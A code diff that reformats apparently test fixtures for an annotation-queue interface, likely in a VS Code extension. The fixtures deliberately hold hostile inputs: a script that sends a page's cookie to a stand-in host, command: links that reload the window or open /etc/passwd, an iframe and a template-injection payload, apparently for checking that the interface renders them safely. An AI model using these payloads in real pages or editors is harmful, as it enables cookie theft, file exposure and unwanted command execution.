@@ -28,7 +28,12 @@ export function buildHostileSpanRecord(queueId: string, id: string): AnnotationQ
     annotations: [],
     trace_annotations: [],
     evaluations: [
-      { name: 'hallucination', label: '<b>factual</b>', score: 0, explanation: '[details](command:workbench.action.reloadWindow)' },
+      {
+        name: 'hallucination',
+        label: '<b>factual</b>',
+        score: 0,
+        explanation: '[details](command:workbench.action.reloadWindow)',
+      },
     ],
     assigned_users: [],
   };
@@ -41,7 +46,8 @@ export function buildHostileDatasetRecord(queueId: string, id: string): Annotati
     source_type: 'DATASET',
     granularity: null,
     data: {
-      input: 'Abstract: <script>document.location="https://example.invalid/steal?c="+document.cookie</script> We study prompt injection.',
+      input:
+        'Abstract: <script>document.location="https://example.invalid/steal?c="+document.cookie</script> We study prompt injection.',
       output: 'Summary: see [the full paper](command:vscode.open?%22file%3A%2F%2F%2Fetc%2Fpasswd%22) for details.',
       expected: '<iframe src="https://example.invalid"></iframe> A study of prompt injection.',
       'metadata.source': '{{constructor.constructor("alert(1)")()}}',
